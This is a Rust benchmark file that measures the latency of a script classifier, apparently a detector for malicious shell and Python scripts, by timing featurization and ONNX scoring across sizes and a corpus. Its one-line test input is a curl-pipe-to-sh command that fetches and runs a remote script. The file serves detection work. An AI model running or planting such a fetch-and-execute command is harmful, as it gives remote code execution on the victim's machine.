//! Latency of scoring one script, features included, on one core.
//!
//! Targets (issue 3): median < 50 µs and p99 < 250 µs per script up to 64 KiB.
//! Criterion measures fixed inputs from a one-liner to a 64 KiB script; the
//! `corpus_sweep` pass times every script of the shared corpus (if present:
//! $SENSOR_DATA_DIR or ../shared/data/train) once and prints median/p99/max.
//! Both sweeps time each run by the wall clock and by the thread's CPU time:
//! on a shared machine the wall-clock p99 is mostly other processes' time slices.
//! Run: `cargo bench -p sensor-classifier` (needs onnxruntime: `cargo xtask setup`).
//! `LATENCY_JSON=PATH` writes the report elsewhere; `SCORE_BENCH_SWEEPS=0` skips the sweeps.

use std::hint::black_box;
use std::path::PathBuf;
use std::time::Instant;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use sensor_classifier::{features, Classifier, Lang};

#[path = "../examples/common/corpus.rs"]
mod corpus;

const ONE_LINER: &str = "curl -fsSL http://198.51.100.7/x.sh | sh";

fn synthetic_texts() -> Vec<(Lang, String)> {
    let path =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../models/synthetic/synthetic.jsonl");
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|v| {
            (
                v["lang"].as_str().unwrap().parse().unwrap(),
                v["content"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// A script of about `size` bytes made of our synthetic samples (dense with indicators: a worst case).
fn script_of(size: usize, lang: Lang) -> String {
    let parts: Vec<String> = synthetic_texts()
        .into_iter()
        .filter(|(l, _)| *l == lang)
        .map(|(_, t)| t)
        .collect();
    let mut out = String::new();
    for part in parts.iter().cycle() {
        if out.len() >= size {
            break;
        }
        out.push_str(part);
        out.push('\n');
    }
    out.truncate(size);
    out
}

fn corpus_texts() -> Vec<(Lang, String)> {
    corpus::jsonl_in(&corpus::data_dir())
}

/// The calling thread's CPU time in µs. Unlike the wall clock it leaves out the
/// time the thread waits while other processes run on a shared machine (it
/// still includes what they cost it in caches); one clock_gettime syscall
/// (well under 1 µs) is inside each measurement.
fn thread_cpu_us() -> f64 {
    let mut ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: clock_gettime writes into the timespec it is given.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut ts) };
    ts.tv_sec as f64 * 1e6 + ts.tv_nsec as f64 / 1e3
}

/// Wall-clock and thread-CPU time of one call, in µs.
fn timed(f: impl FnOnce()) -> (f64, f64) {
    let cpu = thread_cpu_us();
    let start = Instant::now();
    f();
    let wall = start.elapsed().as_secs_f64() * 1e6;
    (wall, thread_cpu_us() - cpu)
}

fn percentile(sorted: &[f64], p: f64) -> f64 {
    sorted[((sorted.len() - 1) as f64 * p).round() as usize]
}

/// Wall-clock median, p99 and max over the corpus, how many scripts, and the thread-CPU-time percentiles.
struct CorpusLatency {
    median: f64,
    p99: f64,
    max: f64,
    scripts: usize,
    cpu_median: f64,
    cpu_p99: f64,
}

fn corpus_sweep(classifier: Option<&Classifier>) -> Option<CorpusLatency> {
    let texts = corpus_texts();
    if texts.is_empty() {
        eprintln!("corpus_sweep: no corpus found (set SENSOR_DATA_DIR); skipped");
        return None;
    }
    // Warm caches and the session once.
    for (lang, text) in texts.iter().take(200) {
        black_box(features::featurize(text, *lang));
    }
    // Each script is timed 3 times and the fastest run kept: on a shared machine a
    // single run can include a scheduler preemption (milliseconds) that says
    // nothing about the cost of scoring.
    let (mut times, mut cpu): (Vec<f64>, Vec<f64>) = texts
        .iter()
        .map(|(lang, text)| {
            (0..3)
                .map(|_| {
                    timed(|| match classifier {
                        Some(c) => {
                            black_box(c.score(text, *lang).unwrap());
                        }
                        None => {
                            black_box(features::featurize(text, *lang));
                        }
                    })
                })
                .fold((f64::INFINITY, f64::INFINITY), |(w, c), (w2, c2)| {
                    (w.min(w2), c.min(c2))
                })
        })
        .unzip();
    cpu.sort_by(f64::total_cmp);
    times.sort_by(f64::total_cmp);
    eprintln!(
        "corpus_sweep ({}): {} scripts, best of 3 runs each: median {:.1} µs, p99 {:.1} µs, max {:.1} µs (thread CPU time: median {:.1} µs, p99 {:.1} µs)",
        if classifier.is_some() {
            "features + ONNX + evidence"
        } else {
            "features only"
        },
        times.len(),
        percentile(&times, 0.5),
        percentile(&times, 0.99),
        times.last().unwrap(),
        percentile(&cpu, 0.5),
        percentile(&cpu, 0.99),
    );
    Some(CorpusLatency {
        median: percentile(&times, 0.5),
        p99: percentile(&times, 0.99),
        max: *times.last().unwrap(),
        scripts: times.len(),
        cpu_median: percentile(&cpu, 0.5),
        cpu_p99: percentile(&cpu, 0.99),
    })
}

/// Both sweeps go to models/latency.json, which `cargo xtask train` quotes in the model card.
fn write_report(sizes: Vec<serde_json::Value>, corpus: Option<CorpusLatency>) {
    let round = |x: f64| (x * 10.0).round() / 10.0;
    let report = serde_json::json!({
        "what": "Classifier::score = features + ONNX + evidence, one thread",
        "sizes": {
            "inputs": "our synthetic indicator-dense scripts concatenated to each size (a worst case)",
            "runs_per_size": 400,
            "rows": sizes,
        },
        "cpu_time": "median_us/p99_us are wall clock; cpu_*_us the thread's CPU time over the same runs (no time spent waiting while other processes run)",
        "corpus": corpus.map(|c| serde_json::json!({
            "inputs": "every script of the shared corpus (up to 64 KiB), best of 3 runs each",
            "scripts": c.scripts,
            "median_us": round(c.median),
            "p99_us": round(c.p99),
            "max_us": round(c.max),
            "cpu_median_us": round(c.cpu_median),
            "cpu_p99_us": round(c.cpu_p99),
        })),
        "load_average_1m": std::fs::read_to_string("/proc/loadavg").ok().and_then(|l| l.split_whitespace().next().and_then(|x| x.parse::<f64>().ok())),
        "cpus": std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1),
        "cpu_model": std::fs::read_to_string("/proc/cpuinfo").ok().and_then(|c| {
            c.lines()
                .find_map(|l| l.strip_prefix("model name"))
                .map(|v| v.trim_start_matches([' ', '\t', ':']).to_string())
        }),
    });
    // LATENCY_JSON=PATH writes the report elsewhere (a trial run that must not touch models/).
    let path = std::env::var_os("LATENCY_JSON")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../models/latency.json")
        });
    match std::fs::write(&path, format!("{report:#}\n")) {
        Ok(()) => eprintln!("latency report: {}", path.display()),
        Err(err) => eprintln!("could not write {}: {err}", path.display()),
    }
}

/// Median and p99 per input size: each size is scored `RUNS` times and every
/// run timed on its own (criterion reports means, the targets are percentiles).
fn size_sweep(classifier: Option<&Classifier>) -> Vec<serde_json::Value> {
    const RUNS: usize = 400;
    let mut rows = Vec::new();
    for lang in [Lang::Bash, Lang::Python] {
        for kib in [1usize, 4, 16, 64] {
            let text = script_of(kib << 10, lang);
            let (mut times, mut cpu): (Vec<f64>, Vec<f64>) = (0..RUNS)
                .map(|_| {
                    timed(|| match classifier {
                        Some(c) => {
                            black_box(c.score(black_box(&text), lang).unwrap());
                        }
                        None => {
                            black_box(features::featurize(black_box(&text), lang));
                        }
                    })
                })
                .unzip();
            cpu.sort_by(f64::total_cmp);
            times.sort_by(f64::total_cmp);
            eprintln!(
                "size_sweep {} {:>2} KiB ({}): median {:.1} µs, p99 {:.1} µs over {RUNS} runs (thread CPU time: median {:.1} µs, p99 {:.1} µs)",
                lang.as_str(),
                kib,
                if classifier.is_some() {
                    "score"
                } else {
                    "features"
                },
                percentile(&times, 0.5),
                percentile(&times, 0.99),
                percentile(&cpu, 0.5),
                percentile(&cpu, 0.99),
            );
            let round = |x: f64| (x * 10.0).round() / 10.0;
            rows.push(serde_json::json!({
                "lang": lang.as_str(),
                "kib": kib,
                "median_us": round(percentile(&times, 0.5)),
                "p99_us": round(percentile(&times, 0.99)),
                "cpu_median_us": round(percentile(&cpu, 0.5)),
                "cpu_p99_us": round(percentile(&cpu, 0.99)),
            }));
        }
    }
    rows
}

fn bench(c: &mut Criterion) {
    let classifier = match Classifier::load_embedded() {
        Ok(c) => Some(c),
        Err(err) => {
            eprintln!("onnxruntime unavailable, benchmarking features only: {err}");
            None
        }
    };
    // SCORE_BENCH_SWEEPS=0 skips the sweeps and the report (for profiling the criterion loops).
    if std::env::var_os("SCORE_BENCH_SWEEPS").is_none_or(|v| v != "0") {
        let sizes = size_sweep(classifier.as_ref());
        let corpus = corpus_sweep(classifier.as_ref());
        if classifier.is_some() {
            write_report(sizes, corpus);
        }
    }

    let mut group = c.benchmark_group("featurize");
    for size in [64usize, 4 << 10, 64 << 10] {
        for lang in [Lang::Bash, Lang::Python] {
            let text = if size == 64 {
                ONE_LINER.to_owned()
            } else {
                script_of(size, lang)
            };
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_with_input(BenchmarkId::new(lang.as_str(), size), &text, |b, t| {
                b.iter(|| features::featurize(black_box(t), lang))
            });
        }
    }
    group.finish();

    let Some(classifier) = classifier else { return };
    let mut group = c.benchmark_group("score");
    for size in [64usize, 4 << 10, 64 << 10] {
        for lang in [Lang::Bash, Lang::Python] {
            let text = if size == 64 {
                ONE_LINER.to_owned()
            } else {
                script_of(size, lang)
            };
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_with_input(BenchmarkId::new(lang.as_str(), size), &text, |b, t| {
                b.iter(|| classifier.score(black_box(t), lang).unwrap())
            });
        }
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(30).warm_up_time(std::time::Duration::from_millis(500)).measurement_time(std::time::Duration::from_secs(2));
    targets = bench
}
criterion_main!(benches);
